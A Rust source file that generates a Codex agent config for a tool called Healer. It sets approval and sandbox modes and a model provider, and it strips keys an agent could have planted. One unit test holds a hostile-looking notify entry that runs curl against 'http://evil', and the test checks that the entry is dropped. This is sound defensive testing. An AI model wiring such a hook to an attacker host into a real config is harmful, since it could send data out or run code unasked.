//! The `config.toml` Healer writes into the Codex home it keeps for a project, before each
//! session. Codex 0.169 takes approvals and the sandbox only from its config when resuming
//! (`exec resume` has no `--sandbox`; without the config a resumed thread silently runs
//! read-only), and it phones home (plugin marketplace, analytics, metrics) unless told not to.

use std::path::{Path, PathBuf};

use toml::{Table, Value};

use crate::error::{Error, Result};

/// Where Codex's commands may write.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CodexSandbox {
    /// The worktree and /tmp, no network; commands run in bubblewrap, in a PID namespace that
    /// dies with Codex, so a Stop leaves nothing behind.
    #[default]
    WorkspaceWrite,
    /// No sandbox: for machines where bubblewrap cannot run. Commands may outlive a kill of
    /// Codex; Healer's sweep ends them.
    DangerFullAccess,
}

impl CodexSandbox {
    pub fn as_str(self) -> &'static str {
        match self {
            CodexSandbox::WorkspaceWrite => "workspace-write",
            CodexSandbox::DangerFullAccess => "danger-full-access",
        }
    }
}

/// A model provider for Codex other than its built-in OpenAI one (it speaks only the OpenAI
/// Responses API: `wire_api = "chat"` is refused).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CodexProvider {
    /// The provider's key in `model_providers`.
    pub id: String,
    pub name: String,
    /// Up to and including `/v1`: Codex posts to `{base_url}/responses`.
    pub base_url: String,
    /// The variable holding the key (sent as a Bearer token); none sends no key.
    pub env_key: Option<String>,
    /// Codex's defaults (4 and 5) when `None`; 0 makes a failing server fail at once.
    pub request_max_retries: Option<u32>,
    pub stream_max_retries: Option<u32>,
    pub stream_idle_timeout_ms: Option<u64>,
}

/// How Healer sets Codex up, besides what a session's spec says.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CodexSettings {
    pub sandbox: CodexSandbox,
    pub provider: Option<CodexProvider>,
    /// A model catalog (`model_catalog_json`) for a model Codex does not know.
    pub model_catalog: Option<PathBuf>,
    /// Healer's hooks, in Claude Code's shape (`{"hooks": {"PreToolUse": [...]}}`): with them
    /// every command the agent runs is first asked of Healer, which decides what reaches the
    /// network, so the sandbox lets commands reach it.
    pub hooks: Option<serde_json::Value>,
}

/// The id of the `model_providers` entry for a provider configured in Healer.
pub const HEALER_PROVIDER_ID: &str = "healer";

/// What Healer keeps of the project's Codex config as it finds it: a few keys about the model
/// that cannot send a request elsewhere or run a command. Everything else — an agent's command
/// could have written it (`notify`, `mcp_servers`, `model_providers`, `shell_environment_policy`,
/// profiles…) — is dropped: nothing an agent writes is loaded by a later session.
const KEPT_KEYS: [&str; 4] = [
    "model_catalog_json",
    "model_reasoning_effort",
    "model_reasoning_summary",
    "model_verbosity",
];

/// The config's text for `settings` and the session's model, on top of `existing` (the file as
/// it is): Healer's keys are set afresh, and of the rest only [`KEPT_KEYS`] stay.
pub(super) fn render(
    settings: &CodexSettings,
    model: Option<&str>,
    existing: Option<&str>,
) -> Result<String> {
    let mut root = match existing {
        Some(text) => toml::from_str::<Table>(text).map_err(|e| {
            Error::InvalidInput(format!(
                "Codex's settings file for this project is not valid TOML ({}); fix it or \
                 delete it, and Healer writes a fresh one",
                e.message()
            ))
        })?,
        None => Table::new(),
    };
    root.retain(|key, _| KEPT_KEYS.contains(&key));
    if let Some(model) = model {
        root.insert("model".into(), model.into());
    }
    root.insert("approval_policy".into(), "never".into());
    root.insert("sandbox_mode".into(), settings.sandbox.as_str().into());
    root.insert("check_for_update_on_startup".into(), false.into());
    if let Some(catalog) = &settings.model_catalog {
        root.insert(
            "model_catalog_json".into(),
            catalog.to_string_lossy().into_owned().into(),
        );
    }
    if let Some(p) = &settings.provider {
        root.insert("model_provider".into(), p.id.clone().into());
        let mut entry = Table::new();
        entry.insert("name".into(), p.name.clone().into());
        entry.insert("base_url".into(), p.base_url.clone().into());
        entry.insert("wire_api".into(), "responses".into());
        if let Some(key) = &p.env_key {
            entry.insert("env_key".into(), key.clone().into());
        }
        let numbers = [
            ("request_max_retries", p.request_max_retries.map(u64::from)),
            ("stream_max_retries", p.stream_max_retries.map(u64::from)),
            ("stream_idle_timeout_ms", p.stream_idle_timeout_ms),
        ];
        for (name, value) in numbers {
            if let Some(n) = value {
                entry.insert(
                    name.into(),
                    Value::Integer(i64::try_from(n).unwrap_or(i64::MAX)),
                );
            }
        }
        merge(
            &mut root,
            "model_providers",
            [(p.id.as_str(), entry.into())],
        );
    }
    // Off: the plugin marketplace (git ls-remote to GitHub, chatgpt.com look-ups), analytics
    // and metrics; and retrying a refused connection forever (it would outlast any time limit
    // at Codex's own pace).
    merge(
        &mut root,
        "features",
        [
            ("plugins", false.into()),
            ("unbounded_connection_retries", false.into()),
        ],
    );
    if let Some(hooks) = settings.hooks.as_ref().and_then(|h| h.get("hooks")) {
        let hooks = Value::try_from(hooks).map_err(|e| {
            Error::Internal(format!("Healer's hooks for Codex do not serialise: {e}"))
        })?;
        root.insert("hooks".into(), hooks);
        merge(
            &mut root,
            "sandbox_workspace_write",
            [("network_access", true.into())],
        );
    }
    merge(&mut root, "analytics", [("enabled", false.into())]);
    merge(&mut root, "otel", [("metrics_exporter", "none".into())]);
    toml::to_string(&root)
        .map_err(|e| Error::Internal(format!("Codex's settings do not serialise: {e}")))
}

/// Write the config into `codex_home` (created if missing).
pub(super) fn write(codex_home: &Path, text: &str) -> Result<()> {
    std::fs::create_dir_all(codex_home).map_err(|e| {
        Error::io(
            format!("cannot create Codex's folder {}", codex_home.display()),
            e,
        )
    })?;
    let path = codex_home.join("config.toml");
    std::fs::write(&path, text).map_err(|e| {
        Error::io(
            format!("cannot write Codex's settings {}", path.display()),
            e,
        )
    })
}

/// Set `entries` in the table `name` of `root` (made when missing, replaced when not a table),
/// keeping its other entries.
fn merge<const N: usize>(root: &mut Table, name: &str, entries: [(&str, Value); N]) {
    let slot = root
        .entry(name)
        .or_insert_with(|| Value::Table(Table::new()));
    if !slot.is_table() {
        *slot = Value::Table(Table::new());
    }
    if let Value::Table(table) = slot {
        for (k, v) in entries {
            table.insert(k.to_string(), v);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_config_names_the_provider_and_keeps_codex_offline() {
        let settings = CodexSettings {
            provider: Some(CodexProvider {
                id: "local".to_string(),
                name: "Local \"model\"".to_string(),
                base_url: "http://127.0.0.1:9/v1".to_string(),
                env_key: Some("LOCAL_KEY".to_string()),
                request_max_retries: Some(0),
                stream_max_retries: None,
                stream_idle_timeout_ms: None,
            }),
            ..CodexSettings::default()
        };
        let text = render(&settings, Some("m-1"), None).expect("renders");
        let parsed: Table = toml::from_str(&text).expect("valid TOML");
        assert_eq!(parsed["model"].as_str(), Some("m-1"));
        assert_eq!(parsed["model_provider"].as_str(), Some("local"));
        assert_eq!(parsed["sandbox_mode"].as_str(), Some("workspace-write"));
        assert_eq!(parsed["approval_policy"].as_str(), Some("never"));
        let entry = &parsed["model_providers"]["local"];
        assert_eq!(entry["name"].as_str(), Some("Local \"model\""));
        assert_eq!(entry["wire_api"].as_str(), Some("responses"));
        assert_eq!(entry["request_max_retries"].as_integer(), Some(0));
        assert!(entry.get("stream_max_retries").is_none());
        assert_eq!(parsed["features"]["plugins"].as_bool(), Some(false));
    }

    #[test]
    fn only_the_model_keys_of_an_existing_config_are_kept_and_healers_are_set_afresh() {
        let mine = "model_catalog_json = \"/home/me/models.json\"\nmodel = \"old\"\n\
                    model_provider = \"healer\"\nsandbox_mode = \"danger-full-access\"\n\
                    [features]\nweb_search = true\nplugins = true\n\
                    [model_providers.healer]\nname = \"Old\"\nbase_url = \"http://x\"\n\
                    [model_providers.mine]\nname = \"Mine\"\nbase_url = \"http://y\"\n\
                    [mcp_servers.docs]\ncommand = \"docs-server\"\n";
        let mine = format!("notify = [\"curl\", \"http://evil\"]\n{mine}");
        let mine = mine.as_str();
        let text = render(&CodexSettings::default(), None, Some(mine)).expect("renders");
        let parsed: Table = toml::from_str(&text).expect("valid TOML");
        assert_eq!(
            parsed["model_catalog_json"].as_str(),
            Some("/home/me/models.json")
        );
        // Written by anyone who could write the file (an agent's command): not loaded.
        assert!(parsed.get("mcp_servers").is_none(), "{text}");
        assert!(parsed.get("notify").is_none(), "{text}");
        assert!(parsed["features"].get("web_search").is_none());
        assert_eq!(parsed["features"]["plugins"].as_bool(), Some(false));
        assert_eq!(parsed["sandbox_mode"].as_str(), Some("workspace-write"));
        // Back on Codex's own login: no model or provider Healer set before.
        assert!(parsed.get("model").is_none() && parsed.get("model_provider").is_none());
        assert!(parsed.get("model_providers").is_none(), "{text}");

        let broken = render(&CodexSettings::default(), None, Some("model = ")).expect_err("broken");
        assert!(broken.to_string().contains("not valid TOML"), "{broken}");
    }
}
